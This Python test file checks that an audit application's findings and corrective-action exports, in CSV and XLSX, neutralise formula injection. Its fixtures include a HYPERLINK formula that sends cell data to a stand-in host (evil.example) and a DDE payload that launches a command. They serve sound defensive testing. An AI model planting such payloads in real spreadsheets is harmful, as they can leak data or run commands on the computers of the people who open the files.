"""Findings and CAPA log exports: one row per finding or CAPA, filterable columns, no formula runs."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from auditapp.domain import drafts
from auditapp.domain.clock import HybridClock
from auditapp.domain.events import EventFactory
from auditapp.domain.findings import Finding, FindingGrade
from auditapp.domain.readiness import CapaFacts, Effectiveness
from auditapp.reports.exports import (
    CAPA_COLUMNS,
    FINDING_COLUMNS,
    capa_table,
    findings_table,
    safe_text,
    to_csv,
    to_xlsx,
)
from auditapp.services.reporting import build_dossier
from tests.fixtures.reports.specimen import CHECKLIST_ID, SpecimenChecklists, generate, plan

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _dossier_with_hostile_finding():  # type: ignore[no-untyped-def]
    texts = SpecimenChecklists(10)
    item = texts.items(CHECKLIST_ID)[0]
    factory = EventFactory("dev", HybridClock("dev", iter(range(1000, 10**6, 1000)).__next__))
    the_plan = plan()
    the_plan = type(the_plan)(**{**the_plan.__dict__, "criteria": (texts.info.ref(),)})
    batch = [
        drafts.audit_planned(the_plan),
        drafts.finding_raised(
            Finding("F-1", item.item_id, item.clause, FindingGrade.MINOR_NC, "+SUM(1,2)", HOSTILE)
        ),
        drafts.finding_raised(Finding("F-2", None, "8.2.4", FindingGrade.OFI, "", "-1 and @cmd, fine")),
    ]
    events = [factory.make("A-1", d.kind, d.payload) for d in batch]
    capas = [
        CapaFacts(
            "CAPA-9",
            "=cmd|' /C calc'!A0",
            "open",
            opened_on=dt.date(2026, 1, 10),
            due_on=dt.date(2026, 2, 1),
            finding_ids=("F-1",),
            clauses=(item.clause,),
            effectiveness=Effectiveness.PENDING,
            owner="quality",
            stage="action",
        )
    ]
    return build_dossier(events, "A-1", texts, capas=capas, finding_statuses={"F-1": "triaged"})


@pytest.mark.req("REP-006")
def test_csv_has_one_row_per_finding_and_no_cell_runs_as_a_formula() -> None:
    dossier = _dossier_with_hostile_finding()
    rows = list(csv.reader(io.StringIO(to_csv(findings_table(dossier)).decode("utf-8-sig"))))
    assert tuple(rows[0]) == FINDING_COLUMNS
    assert len(rows) == 3
    by_id = {
        r[FINDING_COLUMNS.index("finding_id")]: dict(zip(FINDING_COLUMNS, r, strict=True)) for r in rows[1:]
    }
    assert by_id["F-1"]["statement"] == "'" + HOSTILE
    assert by_id["F-1"]["requirement"] == "'+SUM(1,2)"
    assert by_id["F-2"]["statement"] == "'-1 and @cmd, fine"
    assert by_id["F-1"]["status"] == "triaged"
    assert by_id["F-1"]["capa_id"] == "CAPA-9"
    assert by_id["F-1"]["site"] == "Plant Łódź"
    for row in rows[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


@pytest.mark.req("REP-006")
def test_xlsx_keeps_hostile_text_as_text_in_both_sheets() -> None:
    dossier = _dossier_with_hostile_finding()
    today = dt.date(2026, 3, 1)
    book = load_workbook(io.BytesIO(to_xlsx([findings_table(dossier), capa_table(dossier, today)])))
    findings, capas = book["Findings"], book["CAPA log"]
    assert [c.value for c in findings[1]] == list(FINDING_COLUMNS)
    statements = {
        row[FINDING_COLUMNS.index("statement")] for row in findings.iter_rows(min_row=2, values_only=True)
    }
    assert HOSTILE in statements
    for row in findings.iter_rows(min_row=2):
        for cell in row:
            assert cell.data_type != "f"
    assert [c.value for c in capas[1]] == list(CAPA_COLUMNS)
    capa = dict(zip(CAPA_COLUMNS, next(capas.iter_rows(min_row=2, values_only=True)), strict=True))
    assert capa["title"] == "=cmd|' /C calc'!A0"
    assert capas.cell(2, CAPA_COLUMNS.index("title") + 1).data_type == "s"
    assert capa["overdue"] == "yes"
    assert capa["days_open"] == 50
    assert capa["finding_grades"] == "minor_nc"
    assert findings.auto_filter.ref == "A1:AC3"


def test_safe_text_leaves_numbers_and_plain_text_alone() -> None:
    assert safe_text(-5) == -5
    assert safe_text("Batch 7") == "Batch 7"
    assert safe_text("\tx") == "'\tx"


@pytest.mark.req("REP-006")
def test_the_specimen_exports_one_row_per_finding() -> None:
    spec = generate(responses=40, findings=12, photos=12)
    dossier = build_dossier(spec.events, spec.audit_id, spec.checklists)
    table = findings_table(dossier)
    assert len(table.rows) == 12
    photos = FINDING_COLUMNS.index("photo_count")
    assert sum(int(r[photos] or 0) for r in table.rows) == 12
